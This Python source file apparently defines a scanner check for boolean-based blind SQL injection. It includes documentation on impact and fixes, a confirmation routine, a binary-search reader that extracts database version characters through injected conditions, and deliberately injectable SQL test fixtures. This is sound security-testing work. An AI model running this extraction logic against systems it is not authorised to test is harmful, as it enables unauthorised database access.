"""A value becomes part of an SQL condition: true and false conditions lead to different pages.

What it looks for
Values that the application writes into the text of a database query. Conditions on random integers are added behind
the value, in every place where a value can stand: as a number, in single or double quotes, in a LIKE pattern, in
parentheses, as a sort column, in a concatenation. A true one must lead to one page and a false one to another.

Why it matters
Whoever can add a condition can ask the database anything, one yes or no at a time: customer records, password hashes,
keys. Often the same place also allows data to be changed, and log-ins to be passed without a password.

How it is confirmed
A series of true and false conditions in random order, on fresh connections, must be followed until chance is ruled
out (a likelihood ratio of a thousand to one), and a condition that no parser accepts must not pass as true. The
conditions use `BETWEEN`, which other query languages do not have. Where the database lets us, the first characters of
its version are then read out through the same conditions and stand in the evidence.

How to fix it
Use prepared statements and hand values over as parameters; no escaping is needed then. Names of columns and sort
directions cannot be parameters: choose them from a fixed list. Give the application's database account no more rights
than it needs.

When it may be wrong
When a firewall in front of the site answers true and false conditions differently by itself. A page that changes with
every request is not tested, so a flaw there is missed, not invented.
"""

from __future__ import annotations

from vedette.contract.checkinfo import CheckInfo, Kind, Phase, ProofLevel, Severity
from vedette.contract.exchange import Step
from vedette.engine.attack.point import Point, PointKind
from vedette.engine.attack.probe import Candidate, Probe, Proof
from vedette.engine.attack.series import Ask, Series, steps
from vedette.engine.attack.sql import (
    ANY,
    BOUNDARIES,
    Boundary,
    Dialect,
    assertion,
    dialects,
    likely,
    reads_only,
    selecting,
)
from vedette.engine.checks.sqli.example_shop import Page, doubled, leading_integer, shop_example, shop_point

INFO = CheckInfo(
    id="sqli-boolean",
    title="SQL injection (by true and false conditions)",
    kind=Kind.ACTIVE,
    phase=Phase.DETECT,
    severity=Severity.CRITICAL,
    proof=ProofLevel.CONFIRMED,
    cwe=(89,),
    cvss31="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
    cvss40="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
    owasp="A03:2021",
    references=(
        "https://owasp.org/www-community/attacks/Blind_SQL_Injection",
        "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    ),
    tags=("injection", "sql"),
    flaw="sql-injection",
    cost=4,
    wants=("changed", "odd", "failed", "error:sql"),
    points=("query", "path", "form", "json", "xml", "multipart", "name", "cookie", "header"),
    profiles=("safe", "normal", "full"),
)

READ_CHARACTERS = 4


async def detect(probe: Probe, point: Point) -> list[Candidate]:
    """One candidate for the first kind of place in which the conditions are followed.

    Without a reaction the page does not depend on the value, so only conditions that add rows can show; a path segment
    that leads nowhere when it is another chooses the page, so there true ones must keep it.
    """
    model = await probe.baseline(point)
    if not model.stable:
        return []
    cheap = selecting(point) if "missing" in probe.reaction.signs else ANY if reads_only(point) else ()
    for boundary in likely(point) if probe.full else cheap:
        series = Series(probe, point, model, _asking(probe, point, boundary), keeps=boundary.keeps)
        # Within the few requests of the cheap form the suspicion alone must do: the verifier repeats all of it.
        if await series.suspect() and (not probe.full or await series.replicate()):
            data = {"boundary": boundary.name}
            return [Candidate(check=INFO.id, point=point, data=data, steps=steps(series.trials))]
        if series.blocked:
            return []
    return []


async def verify(probe: Probe, candidate: Candidate) -> Proof | None:
    """The whole series on fresh connections, the original value as control, then a piece of the version."""
    point = candidate.point
    if point is None:
        return None
    model = await probe.baseline(point)
    boundary = BOUNDARIES[candidate.data["boundary"]]
    series = Series(probe, point, model, _asking(probe, point, boundary), keeps=boundary.keeps, fresh=True)
    if not (model.stable and await series.confirm()):
        return None
    control = await series.unchanged()
    if control is None:
        return None
    evidence, count = (*steps(series.trials), control), len(series.trials) - 1
    version, shown = await read_version(probe, point, boundary, series)
    detail = f"The answer followed {count} true and false SQL conditions in random order."
    return Proof(level=ProofLevel.CONFIRMED, detail=f"{detail}{version}", steps=(*evidence, *shown))


def _asking(probe: Probe, point: Point, boundary: Boundary) -> Ask:
    return lambda truth: boundary.payload(point.value, assertion(probe.rng, truth), probe.rng)


async def read_version(probe: Probe, point: Point, boundary: Boundary, series: Series) -> tuple[str, tuple[Step, ...]]:
    """The beginning of the database's version, read by conditions: a sentence and the exchanges of its last character.

    An empty sentence when no dialect answers: the series stands without it.
    """
    for dialect in dialects(*sorted(probe.technologies)):
        reader = _Reader(probe, point, boundary, series, dialect)
        text = ""
        while len(text) < READ_CHARACTERS and (code := await reader.code(len(text) + 1)):
            text += chr(code)
        if text:
            name = "PostgreSQL" if text.startswith("Post") else dialect.name
            sentence = f" Read out by such conditions: the version of {name} begins with `{text}`."
            return sentence, steps(series.trials[-2:])
    return "", ()


class _Reader:
    """Reads one character of the version after the other by halving the range of its code."""

    def __init__(self, probe: Probe, point: Point, boundary: Boundary, series: Series, dialect: Dialect) -> None:
        self._probe, self._point, self._boundary = probe, point, boundary
        self._series, self._dialect = series, dialect

    async def code(self, index: int) -> int:
        """The code of a character; 0 when it cannot be read or does not stand up to a last pair of questions."""
        if await self._within(index, 46, 57):
            low, high = 46, 57
        elif await self._within(index, 32, 126):
            low, high = 32, 126
        else:
            return 0
        while low < high:
            middle = (low + high) // 2
            answer = await self._within(index, low, middle)
            if answer is None:
                return 0
            low, high = (low, middle) if answer else (middle + 1, high)
        sure = await self._within(index, low, low) is True and await self._within(index, low + 1, low + 1) is False
        return low if sure else 0

    async def _within(self, index: int, low: int, high: int) -> bool | None:
        character = self._dialect.code.format(e=self._dialect.version, i=index)
        condition = f"{character} BETWEEN {low} AND {high}"
        return await self._series.holds(self._boundary.payload(self._point.value, condition, self._probe.rng))


def _query(value: str) -> Point:
    return shop_point(PointKind.QUERY, "v", value)


_LOGIN = "select * from account where login='{}' and secret='?'"

EXAMPLES = (
    shop_example("number", Page(sql="select * from item where id={}"), _query("2")),
    shop_example("number in parentheses", Page(sql="select * from item where (id=abs({}))"), _query("2")),
    shop_example("number in quotes", Page(sql="select * from item where id='{}'"), _query("2")),
    shop_example("double quotes", Page(sql='select * from item where shelf="{}"'), _query("kitchen")),
    shop_example("inside a function", Page(sql="select * from item where shelf=lower('{}')"), _query("kitchen")),
    shop_example("part of a name", Page(sql="select * from item where name like '%{}%'", show="echo"), _query("ke")),
    shop_example("list of numbers", Page(sql="select * from item where id in ({}) order by id"), _query("4,2")),
    shop_example(
        "name in the path",
        Page(sql="select * from item where name='{}'", show="page"),
        shop_point(PointKind.PATH, "1", "apron"),
    ),
    shop_example("sort column", Page(sql="select * from item order by {}"), _query("price")),
    shop_example(
        "cookie",
        Page(sql="select 1 from account where login='{}'", show="found"),
        shop_point(PointKind.COOKIE, "u", "mira"),
    ),
    shop_example(
        "header", Page(sql="select * from item where shelf='{}'"), shop_point(PointKind.HEADER, "X-Shelf", "kitchen")
    ),
    shop_example("JSON", Page(sql="select * from item where id={}"), shop_point(PointKind.JSON, "v", "3")),
    shop_example(
        "log-in", Page(sql=_LOGIN, show="found"), shop_point(PointKind.FORM, "v", "nobody", [("password", "x")])
    ),
    shop_example("bound parameter", Page(sql="select * from item where id=?"), _query("2"), vulnerable=False),
    shop_example(
        "bound path",
        Page(sql="select * from item where name=?", show="page"),
        shop_point(PointKind.PATH, "1", "apron"),
        vulnerable=False,
    ),
    shop_example(
        "only the leading number is read",
        Page(sql="select * from item where id={}", read=leading_integer),
        _query("2"),
        vulnerable=False,
    ),
    shop_example(
        "quotes are escaped",
        Page(sql="select * from item where name like '%{}%'", read=doubled, show="echo"),
        _query("kettle"),
        vulnerable=False,
    ),
)
